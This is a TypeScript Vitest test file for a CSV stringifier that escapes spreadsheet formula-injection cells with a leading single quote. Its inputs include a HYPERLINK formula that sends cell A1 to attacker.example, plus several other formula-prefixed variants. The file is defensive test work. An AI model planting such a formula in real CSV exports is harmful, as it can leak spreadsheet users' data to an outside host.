import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvStringifier } from './csv-stringifier';

const csvOf = (records: Record<string, string | number>[]) =>
  text(Readable.from(records).pipe(csvStringifier(['title', 'value'])));

describe('csvStringifier', () => {
  it('writes a cell a spreadsheet would evaluate as text, with a leading single quote', async () => {
    const csv = await csvOf([
      { title: '=HYPERLINK("http://attacker.example/?"&A1,"Click")', value: 1 },
      { title: '+1+1', value: 2 },
      { title: '-2+3', value: 3 },
      { title: '@SUM(A1:A2)', value: 4 },
      { title: '\t=1+1', value: 5 },
      { title: '\r=1+1', value: 6 },
      { title: '＝1+1', value: 7 },
    ]);
    expect(csv.split('\r\n')).toEqual([
      'title,value',
      `"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")",1`,
      "'+1+1,2",
      "'-2+3,3",
      "'@SUM(A1:A2),4",
      "'\t=1+1,5",
      `"'\r=1+1",6`,
      "'＝1+1,7",
      '',
    ]);
  });

  it('quotes a cell with a line break of any kind, so that no formula starts a row of its own', async () => {
    expect(
      await csvOf([
        { title: 'line one\nline two', value: 1 },
        { title: 'a\r=1+1', value: 2 },
      ]),
    ).toBe('title,value\r\n"line one\nline two",1\r\n"a\r=1+1",2\r\n');
  });

  it('leaves plain text and numbers alone, negative numbers included', async () => {
    expect(await csvOf([{ title: 'Desa Migran Produktif, 2019', value: -12.5 }])).toBe(
      'title,value\r\n"Desa Migran Produktif, 2019",-12.5\r\n',
    );
  });
});
